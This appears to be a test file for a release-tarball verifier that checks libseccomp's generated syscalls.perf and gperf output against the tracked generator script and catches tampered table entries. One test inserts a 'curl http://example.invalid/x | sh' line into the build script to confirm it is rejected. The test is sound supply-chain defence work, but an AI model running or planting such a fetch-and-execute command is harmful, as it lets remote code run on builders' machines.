/**
 * libseccomp's src/syscalls.perf, written by the tracked bash script src/arch-gperf-generate (`cat | grep -v | nl |
 * sed` over the tracked syscalls.csv, then sed `r` into the tracked syscalls.perf.template), computed by a model of
 * that pipeline (src/classify/syscalls-table.ts) and compared byte for byte; src/syscalls.perf.c, gperf's output of
 * that file, then proved by running gperf in the sandbox on it (src/regenerate/generators.ts computedGperfInputs).
 * The fixture script is written for this test in the modelled shape; the expected files are what the real bash,
 * nl, sed and gperf write running it and the tracked rule. End to end with real git and GNU tar. Tampered twins: one
 * table entry changed in syscalls.perf (with syscalls.perf.c made by gperf from the changed file, the consistent
 * pair an attacker would ship), one entry changed in syscalls.perf.c alone, a changed script line.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { scriptSpelling, syscallTable, syscallsPerf } from '../../src/classify/syscalls-table.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { gperfBannerCommand, gperfRunInput } from '../../src/regenerate/generators.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { findingAt } from '../helpers/findings.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const SCRIPT = [
  '#!/bin/bash',
  '',
  '# writes syscalls.perf from the csv and the template',
  '',
  'function exit_usage() {',
  '\techo "usage: $0 <syscall_csv_file> <gperf_template>"',
  '\texit 1',
  '}',
  '',
  '[[ ! -r "$1" || ! -r "$2" ]] && exit_usage',
  'sys_csv=$1',
  'gperf_tmpl=$2',
  '',
  'sys_csv_tmp=$(mktemp -t generate_syscalls_XXXXXX)',
  '',
  "cat $sys_csv | grep -v '^#' | nl -ba -s, -v0 | \\",
  "    sed -e 's/^[[:space:]]\\+\\([0-9]\\+\\),\\([^,]\\+\\),\\(.*\\)/\\2,\\1,\\3/' \\",
  "        -e ':repeat; {s|\\([^,]\\+\\)\\(.*\\)[^_]PNR|\\1\\2,__PNR_\\1|g;}; t repeat' \\",
  '         > $sys_csv_tmp',
  '[[ $? -ne 0 ]] && exit 1',
  '',
  'sed -e "/@@SYSCALLS_TABLE@@/r $sys_csv_tmp" \\',
  "    -e '/@@SYSCALLS_TABLE@@/d' \\",
  '    $gperf_tmpl > syscalls.perf',
  '[[ $? -ne 0 ]] && exit 1',
  '',
  'rm -f $sys_csv_tmp',
  '',
  'exit 0',
  '',
].join('\n');

const CSV = [
  '#syscall (v1),x86,x86_64,arm',
  'accept,PNR,43,285',
  'accept4,364,288,366',
  'access,33,21,PNR',
  'bind,PNR,PNR,282',
  'close,6,3,6',
  'kexec_file_load,PNR,320,401',
  'read,3,0,3',
  '',
].join('\n');

const TEMPLATE = `%{
#include <string.h>
#include "syscalls.h"
%}
struct arch_syscall_table;

%%
@@SYSCALLS_TABLE@@
%%

int syscall_resolve_name(const char *name)
{
\treturn in_word_set(name, strlen(name)) != NULL;
}
`;
const AM = `EXTRA_DIST = arch-gperf-generate syscalls.csv syscalls.perf.template syscalls.perf.c syscalls.perf

syscalls.perf: syscalls.csv syscalls.perf.template
\t\${AM_V_GEN} \${srcdir}/arch-gperf-generate \\
\t\t\${srcdir}/syscalls.csv \${srcdir}/syscalls.perf.template

syscalls.perf.c: syscalls.perf
\t\${GPERF} -m 100 --null-strings --pic -tCEG -T -S1 $< > $@
`;
const TRACKED: Record<string, string> = {
  README: 'demo\n',
  'src/Makefile.am': AM,
  'src/arch-gperf-generate': SCRIPT,
  'src/syscalls.csv': CSV,
  'src/syscalls.perf.template': TEMPLATE,
  'src/syscalls.h': 'struct arch_syscall_table { int name; int index; int x86; int x86_64; int arm; };\n',
};

const root = tempDir('distdiff-syscalls-');
const repoDir = join(root, 'repo');
const made: Record<string, string> = {};
const env = { PATH: '/usr/local/bin:/usr/bin:/bin', LC_ALL: 'C', TMPDIR: root };
/** What the real tools write in src/ of a work tree holding `files` (the rule's two commands, as make runs them). */
function build(files: Record<string, string>, name: string): { perf: string; c: string } {
  const work = join(root, name);
  writeFiles(work, files);
  const src = join(work, 'src');
  execFileSync('bash', ['./arch-gperf-generate', './syscalls.csv', './syscalls.perf.template'], { cwd: src, env });
  const perf = readFileSync(join(src, 'syscalls.perf'), 'latin1');
  return { perf, c: gperf(src) };
}
const gperf = (src: string) => execFileSync('gperf', ['-m', '100', '--null-strings', '--pic', '-tCEG', '-T', '-S1', 'syscalls.perf'], { cwd: src, env }).toString('latin1');

beforeAll(() => {
  const repo = makeRepo(repoDir);
  repo.commit(TRACKED);
  repo.tag('v1.0', { message: 'demo 1.0' });
  const b = build(TRACKED, 'work');
  made['src/syscalls.perf'] = b.perf;
  made['src/syscalls.perf.c'] = b.c;
}, 120_000);

let n = 0;
function release(changes: Record<string, string> = {}): string {
  const dir = join(root, `r${++n}`, 'demo-1.0');
  writeFiles(dir, { ...TRACKED, ...made, ...changes });
  mkdirSync(dir, { recursive: true });
  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
}
const run = async (tar: string) => verify({ tarball: tar, repo: repoDir, tag: 'v1.0', cacheDir: join(root, 'cache'), regenerate: 'auto' });

describe('the arch-gperf-generate model', () => {
  it('computes what the real bash, nl and sed write, byte for byte', () => {
    expect(made['src/syscalls.perf']).toContain('accept,0,__PNR_accept,43,285\n');
    expect(made['src/syscalls.perf']).toContain('bind,3,__PNR_bind,__PNR_bind,282\n');
    expect(syscallsPerf(SCRIPT, CSV, TEMPLATE)).toBe(made['src/syscalls.perf']);
  });
  it("reads 2.6's spelling with the KV_ edit", () => {
    const v26 = SCRIPT.replace(
      /    sed -e 's[^\n]*\n[^\n]*\n/,
      "    sed -e '{s|^[[:space:]]\\+\\([0-9]\\+\\),\\([^,]\\+\\),\\(.*\\)|\\2,\\1,\\3|;};' \\\n        -e '{:r1; {s|\\([^,]\\+\\)\\(.*\\)[^_]PNR|\\1\\2,__PNR_\\1|g;}; t r1;};' \\\n        -e '{s|,KV_|,SCMP_KV_|g;};' \\\n",
    );
    expect(scriptSpelling(v26)).toEqual({ kv: true });
    const csv = 'open,5,KV_5_4,PNR\n';
    const work = join(root, 'v26', 'src');
    writeFiles(join(root, 'v26'), { 'src/g': v26, 'src/c': csv, 'src/t': 'a\n@@SYSCALLS_TABLE@@\nb\n' });
    execFileSync('bash', ['./g', './c', './t'], { cwd: work, env });
    expect(syscallsPerf(v26, csv, 'a\n@@SYSCALLS_TABLE@@\nb\n')).toBe(readFileSync(join(work, 'syscalls.perf'), 'latin1'));
    expect(syscallsPerf(v26, csv, 'a\n@@SYSCALLS_TABLE@@\nb\n')).toBe('a\nopen,0,5,SCMP_KV_5_4,__PNR_open\nb\n');
  });
  it('refuses what it cannot follow exactly', () => {
    expect(syscallTable('a,PNRx,1\n', false)).toBeUndefined(); // PNR inside a field: sed would cut the byte before it
    expect(syscallTable('aPNR,1\n', false)).toBeUndefined(); // in the name
    expect(syscallTable('a,1\n\nb,2\n', false)).toBeUndefined(); // an empty line: nl numbers it, sed leaves it
    expect(syscallTable('\\:\na,1\n', false)).toBeUndefined(); // nl's section delimiter
    expect(syscallTable('a\u00e9,1\n', false)).toBeUndefined(); // outside ASCII
    expect(syscallTable('nocomma\n', false)).toBeUndefined();
    expect(syscallTable('#only\n', false)).toBeUndefined();
    expect(syscallsPerf(SCRIPT, CSV, 'no marker\n')).toBeUndefined();
    expect(syscallsPerf(SCRIPT, CSV, TEMPLATE.slice(0, -1))).toBeUndefined();
    // one changed or added code line: not the modelled script
    expect(syscallsPerf(SCRIPT.replace("'/@@SYSCALLS_TABLE@@/d'", "'/@@SYSCALLS_TABLE@@/d' -e 's/x/y/'"), CSV, TEMPLATE)).toBeUndefined();
    expect(syscallsPerf(SCRIPT.replace('rm -f $sys_csv_tmp', 'rm -f $sys_csv_tmp\ncurl http://example.invalid/x | sh'), CSV, TEMPLATE)).toBeUndefined();
  });
  it("reads gperf's banner with a computed input and clustered flags", () => {
    const head = '/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: gperf -m 100 --null-strings --pic -tCEG -T -S1 syscalls.perf  */\n';
    expect(gperfBannerCommand(head, 'src/syscalls.perf', true)).toMatchObject({ cwd: 'src', args: ['-m', '100', '--null-strings', '--pic', '-tCEG', '-T', '-S1', 'syscalls.perf'] });
    expect(gperfBannerCommand(head, 'src/syscalls.perf')).toHaveProperty('refused'); // not a .gperf: only a computed input
    expect(gperfBannerCommand(head.replace('-tCEG', '-tCEF'), 'src/syscalls.perf', true)).toHaveProperty('refused'); // -F takes a value: not a cluster of flags
    expect(gperfRunInput('${GPERF} -m 100 syscalls.perf > syscalls.perf.c', 'syscalls.perf')).toBe('syscalls.perf');
    expect(gperfRunInput('${GPERF} -m 100 syscalls.perf > syscalls.perf.c')).toBeUndefined();
  });
});

describe('end to end', () => {
  it('explains syscalls.perf (computed) and proves syscalls.perf.c (gperf run on it): exit 0', async () => {
    const r = await run(release());
    const perf = findingAt(r.findings, 'src/syscalls.perf');
    expect(perf.code).toBe('GENERATED_FROM_SOURCE');
    expect(perf.evidence).toEqual({ how: 'computed', source: 'src/Makefile.am', generator: 'src/arch-gperf-generate', inputs: ['src/syscalls.csv', 'src/syscalls.perf.template'] });
    const c = findingAt(r.findings, 'src/syscalls.perf.c');
    expect(c.code).toBe('GENERATED_TOOL_PROVED');
    expect(c.evidence).toMatchObject({ tool: 'gperf', source: 'src/syscalls.perf', rule: 'src/Makefile.am', cwd: 'src' });
    expect(exitCodeOf(r.verdict)).toBe(0);
  }, 120_000);

  it('tampered: one table entry changed, syscalls.perf.c made by gperf from it — both stay high', async () => {
    const bad = made['src/syscalls.perf']!.replace('close,4,6,3,6\n', 'close,4,6,59,6\n');
    expect(bad).not.toBe(made['src/syscalls.perf']);
    const work = join(root, 'bad', 'src');
    writeFiles(join(root, 'bad'), { 'src/syscalls.perf': bad });
    const r = await run(release({ 'src/syscalls.perf': bad, 'src/syscalls.perf.c': gperf(work) }));
    expect(findingAt(r.findings, 'src/syscalls.perf')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(findingAt(r.findings, 'src/syscalls.perf.c')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  }, 120_000);

  it('tampered: syscalls.perf.c alone with one entry changed is a gperf mismatch (high)', async () => {
    const c = made['src/syscalls.perf.c']!;
    const bad = c.replace(',4,6,3,6}', ',4,6,59,6}');
    expect(bad).not.toBe(c);
    const r = await run(release({ 'src/syscalls.perf.c': bad }));
    expect(findingAt(r.findings, 'src/syscalls.perf').code).toBe('GENERATED_FROM_SOURCE');
    expect(findingAt(r.findings, 'src/syscalls.perf.c')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  }, 120_000);
});
